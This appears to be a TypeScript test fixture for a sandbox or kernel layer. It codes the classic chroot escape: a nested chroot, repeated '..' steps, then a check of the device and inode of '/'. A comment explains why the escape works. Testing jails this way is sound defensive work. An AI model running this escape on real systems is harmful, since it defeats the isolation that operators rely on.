import { AT_FDCWD } from '../../lib/kernel/constants.ts'
import type { Tape } from '../../lib/kernel/tape.ts'

const STEPS_UP = 32

/** Where a process's paths begin, as the kernel names it: device and inode of "/". Filled when the tape has run. */
export class RootSeen {
  readonly #stat = new Uint8Array(144) // struct stat: st_dev at 0, st_ino at 8, on x86-64 and arm64 alike

  /** Records a look at "/". */
  look(tape: Tape): void {
    tape.newfstatat(AT_FDCWD, '/', this.#stat, 0)
  }

  toString(): string {
    const view = new DataView(this.#stat.buffer)
    return `${view.getBigUint64(0, true)}:${view.getBigUint64(8, true)}`
  }
}

/**
 * The classic way out of a chroot: chroot(2) leaves the working directory where it is. So make a second jail deeper
 * inside, enter it without going there, and the working directory is outside: from there ".." knows no bounds, because
 * the kernel stops ".." only at the process's root, and that is now behind.
 */
export function breakOut(tape: Tape): RootSeen {
  tape.attempt.mkdirat(AT_FDCWD, 'breakout', 0o700) // it may be there from an earlier attempt
  tape.chroot('breakout')
  for (let i = 0; i < STEPS_UP; i++) tape.chdir('..')
  tape.chroot('.')
  const seen = new RootSeen()
  seen.look(tape)
  return seen
}
